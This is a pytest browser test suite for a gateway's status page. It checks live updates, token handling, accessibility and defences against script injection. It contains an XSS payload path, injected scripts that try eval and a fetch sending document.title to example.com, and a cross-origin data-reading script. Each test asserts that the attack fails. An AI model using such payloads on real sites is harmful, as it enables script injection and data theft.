"""The status page in a real browser: what a person sees of it, and what it runs."""

from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from pathlib import Path

import aiohttp
import grpc
import pytest
import pytest_asyncio

from browser import CHROMIUM, Page, chromium, tab
from conformance.table import World, bearer
from gates import check_request
from processes import check, environ, gate, receiver
from wicketgate.adapters.status_feed import MAX_WATCHERS
from wicketgate.core.status.advice import COMPONENT_ADVICE
from wicketgate.local.ports import held_ports

pytestmark = [
    pytest.mark.skipif(
        CHROMIUM is None, reason="there is no chromium, which is not among what make installs"
    ),
    # A browser takes seconds to start, so they share one.
    pytest.mark.asyncio(loop_scope="module"),
]

TOKEN = "a-status-token-of-more-than-32-characters"
MARKUP = "/x/<img/src=x/onerror=document.title='owned'>"
POLICY = f"""
version: 1
rules:
  - name: markup
    match: {{ paths: "{MARKUP}" }}
    allow: {{ user: {{ org_role: admin }} }}
  - {{ name: app, match: {{ paths: /app/** }}, allow: user }}
"""
IS_LIVE = "document.body.className === 'live'"
SHOWN = "document.body.innerText"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[str]:
    """A browser, by where it is driven from."""
    async with chromium(tmp_path_factory.mktemp("profile")) as endpoint:
        yield endpoint


async def rows(page: Page, table: str) -> list[str]:
    """Return the text of each row of a table."""
    expression = f"[...document.querySelectorAll('#{table} tbody tr')].map((row) => row.innerText)"
    return list(await page.evaluate(expression))


async def test_a_denial_appears_while_somebody_looks(
    world: World, tmp_path: Path, browser: str
) -> None:
    """
    From nothing decided to a row, without a reload, a complaint, or markup that is obeyed.
    """
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    async with (
        gate(environ(world, WICKETGATE_POLICY_FILE=str(policy))) as running,
        grpc.aio.insecure_channel(running.checks) as channel,
        tab(browser) as page,
    ):
        await page.open(f"http://{running.admin}/")
        await page.until(f"{IS_LIVE} && {SHOWN}.includes('Nothing yet.')")
        assert "Nobody was." in await page.evaluate(SHOWN)
        assert await page.evaluate("document.title") == "wicketgate authz"

        await check(channel, check_request({}, path="/app/me"))
        await check(channel, check_request(bearer()(world), path=MARKUP))
        await page.until("document.querySelectorAll('#events tbody tr').length === 2")
        newest, first = await rows(page, "events")
        await page.until("document.querySelector('#rules tbody').innerText.includes('1')")
        rules = await rows(page, "rules")
        images = await page.evaluate("document.images.length")
        title = await page.evaluate("document.title")
        heads = await page.evaluate(
            "[...document.querySelectorAll('table:has(tbody tr)')].every((each) => "
            "each.getAttribute('role') === 'table' && each.querySelector('th[scope=col]'))"
        )
        live = await page.evaluate(
            "document.querySelectorAll('[aria-live], [role=status]').length"
        )
        await page.call(
            "Emulation.setDeviceMetricsOverride",
            width=360,
            height=740,
            deviceScaleFactor=1,
            mobile=False,
        )
        width = await page.evaluate("document.scrollingElement.scrollWidth")

    assert "role_not_admitted" in newest
    assert MARKUP in newest
    assert "no_credential" in first
    assert "A bearer token is required." in first
    assert [each.split()[0] for each in rules] == ["markup", "app", "default"]
    assert MARKUP in rules[0]
    assert (images, title) == (0, "wicketgate authz")
    assert heads
    assert live == 1, "only the connection is read out, and not every second"
    assert width <= 360
    assert page.complaints == []


async def test_a_gate_that_is_gone_is_said_to_be_and_is_found_again(
    world: World, browser: str
) -> None:
    with held_ports(1) as (port,):
        variables = environ(world, WICKETGATE_ADMIN_ADDRESS=f"127.0.0.1:{port}")
        async with tab(browser) as page:
            async with gate(variables):
                await page.open(f"http://127.0.0.1:{port}/")
                await page.until(IS_LIVE)
            await page.until("document.body.className === 'stale'")
            said = await page.evaluate("document.getElementById('connection').textContent")
            dimmed = await page.evaluate(
                "getComputedStyle(document.querySelector('main')).opacity"
            )
            async with gate(variables):
                await page.until(IS_LIVE)

    assert said.startswith("not connected since ")
    assert float(dimmed) < 1
    assert page.complaints == []


async def test_a_token_is_asked_for_and_stays_in_the_tab(world: World, browser: str) -> None:
    async with (
        gate(environ(world, WICKETGATE_STATUS_TOKEN=TOKEN)) as running,
        tab(browser) as page,
    ):
        await page.open(f"http://{running.admin}/")
        await page.until("!document.getElementById('entry').hidden")
        await submit(page, TOKEN.upper())
        await page.until(f"{SHOWN}.includes('not known here')")
        is_empty = await page.evaluate("document.getElementById('main').hidden")
        await submit(page, TOKEN)
        await page.until(IS_LIVE)
        kept = await page.evaluate(
            "[localStorage.length, location.href, document.documentElement.outerHTML]"
        )
        await page.call("Page.reload")
        await page.until(f"{IS_LIVE} && document.getElementById('entry').hidden")

    assert is_empty
    assert kept[:2] == [0, f"http://{running.admin}/"]
    assert TOKEN not in kept[2]
    assert page.complaints == []


async def test_what_is_put_into_the_page_by_force_does_not_run(world: World, browser: str) -> None:
    """
    As if text had become markup after all: the security policy is what is left then.
    """
    forced = """
    (() => {
      window.broken = [];
      document.addEventListener("securitypolicyviolation", (each) =>
        window.broken.push(each.effectiveDirective));
      const refused = [];
      const attempt = (name, force) => { try { force() } catch { refused.push(name) } };
      const make = (name, attributes) =>
        document.body.append(Object.assign(document.createElement(name), attributes));
      attempt("markup", () => { document.body.innerHTML += "<b></b>" });
      attempt("code", () => eval("window.ran = 1"));
      attempt("source", () => make("script", { src: "/status.js" }));
      attempt("inline", () => make("script", { textContent: "window.ran = 1" }));
      attempt("worker", () => new Worker("/status.js"));
      attempt("trusted", () => trustedTypes.createPolicy("mine", {}));
      make("img", { src: "https://example.com/x.png" });
      make("iframe", { src: "https://example.com/" });
      make("base", { href: "https://example.com/" });
      make("style", { textContent: "body { display: none }" });
      const form = Object.assign(document.createElement("form"), { action: "/", method: "post" });
      document.body.append(form);
      form.submit();
      fetch("https://example.com/?" + document.title).catch(() => window.broken.push("told"));
      return refused;
    })()
    """
    wanted = {"img-src", "frame-src", "style-src-elem", "base-uri", "form-action", "connect-src"}
    async with gate(environ(world)) as running, tab(browser) as page:
        await page.open(f"http://{running.admin}/")
        await page.until(IS_LIVE)
        refused = await page.evaluate(forced)
        await page.until(f"{sorted(wanted)}.every((each) => window.broken.includes(each))")
        ran = await page.evaluate("window.ran === undefined && location.pathname === '/'")

    assert refused == ["markup", "code", "source", "inline", "worker", "trusted"]
    assert ran


async def test_a_page_of_another_site_learns_nothing(world: World, browser: str) -> None:
    """
    Another port of the same machine is another origin, and the same site to a browser.
    """
    steal = """
    (async () => {
      const got = [];
      const from = ADMIN;
      for (const path of ["/status.json", "/status/events", "/", "/status.js"]) {
        await fetch(from + path).then(() => got.push("read " + path), () => 0);
      }
      const event = (target, name) => new Promise((done) => {
        target.addEventListener(name, () => done(name));
        target.addEventListener("error", () => done("error"));
      });
      const load = (name, attributes) => {
        const made = Object.assign(document.createElement(name), attributes);
        const loaded = event(made, "load");
        document.body.append(made);
        return loaded;
      };
      const stream = new EventSource(from + "/status/events");
      got.push(await event(stream, "open"));
      got.push(await load("script", { src: from + "/status.js" }));
      got.push(await load("script", { src: from + "/status.json" }));
      got.push(await load("link", { rel: "stylesheet", href: from + "/status.css" }));
      got.push(await load("img", { src: from + "/status.svg" }));
      const frame = document.createElement("iframe");
      frame.src = from + "/";
      document.body.append(frame);
      await event(frame, "load");
      if (frame.contentWindow.length) got.push("frame");
      return got.filter((each) => each !== "error").join();
    })()
    """
    async with (
        gate(environ(world)) as running,
        gate(environ(world)) as other,
        tab(browser) as page,
    ):
        # Whatever is served there: it has no policy of its own.
        await page.open(f"http://{other.admin}/metrics")
        await page.until("document.body !== null && location.pathname === '/metrics'")
        steal = steal.replace("ADMIN", f"'http://{running.admin}'")
        got = await page.evaluate(steal)
        refused = " ".join(page.complaints)

    assert got == ""
    # It was there, and refused: nothing else kept it from being read.
    for word in ("blocked by CORS policy", "CorpNotSameOrigin", "frame-ancestors"):
        assert word in refused


async def test_whoever_comes_when_as_many_watch_as_may_sees_it_all_the_same(
    world: World, browser: str
) -> None:
    async with (
        gate(environ(world)) as running,
        grpc.aio.insecure_channel(running.checks) as channel,
        aiohttp.ClientSession(f"http://{running.admin}") as client,
        AsyncExitStack() as stack,
        tab(browser) as page,
    ):
        for _ in range(MAX_WATCHERS):
            response = await stack.enter_async_context(client.get("/status/events"))
            assert response.status == 200
        await page.open(f"http://{running.admin}/")
        await page.until(f"{IS_LIVE} && {SHOWN}.includes('every 2 s')")
        await check(channel, check_request({}))
        await page.until("document.querySelectorAll('#events tbody tr').length === 1")

        await stack.aclose()
        await page.until("document.getElementById('connection').textContent === 'live'")


async def test_a_tab_that_nobody_looks_at_gives_its_stream_back(
    world: World, browser: str
) -> None:
    """
    A browser holds six connections to one place, and a process eight streams.
    """
    hide = """
    (() => {
      const later = window.setTimeout;
      window.setTimeout = (what, wait) => later(what, wait >= 300_000 ? 0 : wait);
      Object.defineProperty(document, "hidden", { configurable: true, value: true });
      document.dispatchEvent(new Event("visibilitychange"));
    })()
    """
    look = """
    (() => {
      delete document.hidden;
      document.dispatchEvent(new Event("visibilitychange"));
    })()
    """
    async with gate(environ(world)) as running, tab(browser) as page:
        await page.open(f"http://{running.admin}/")
        await page.until(IS_LIVE)
        await page.evaluate(hide)
        await page.until(f"{SHOWN}.includes('paused, because nobody looked')")
        await page.evaluate(look)
        await page.until(IS_LIVE)

    assert page.complaints == []


async def test_a_reason_leads_to_where_it_is_explained(world: World, browser: str) -> None:
    variables = environ(world, WICKETGATE_PROBLEM_TYPE_BASE="https://docs.example.com/reasons#")
    async with (
        gate(variables) as running,
        grpc.aio.insecure_channel(running.checks) as channel,
        tab(browser) as page,
    ):
        await check(channel, check_request({}))
        await page.open(f"http://{running.admin}/")
        await page.until("document.querySelectorAll('#events tbody tr').length === 1")
        links = await page.evaluate(
            "[...document.querySelectorAll('main a')].map((each) => [each.href, each.rel])"
        )

    link = ["https://docs.example.com/reasons#no_credential", "noreferrer"]
    assert links == [link, link], "beside the denial, and among the reasons"


async def test_what_is_not_ready_comes_with_what_to_do(browser: str) -> None:
    async with receiver() as (_, admin), tab(browser) as page:
        await page.open(f"http://{admin}/")
        await page.until(f"{IS_LIVE} && document.querySelector('#troubles li')")
        said = await page.evaluate("document.getElementById('troubles').innerText")

    assert said == f"store: not ready. {COMPONENT_ADVICE['store']}"
    assert page.complaints == []


async def submit(page: Page, token: str) -> None:
    """Type a token and press Enter, as a person does."""
    await page.evaluate("document.getElementById('token').focus()")
    await page.call("Input.insertText", text=token)
    for kind in ("keyDown", "keyUp"):
        await page.call(
            "Input.dispatchKeyEvent",
            type=kind,
            key="Enter",
            code="Enter",
            text="\r",
            windowsVirtualKeyCode=13,
        )
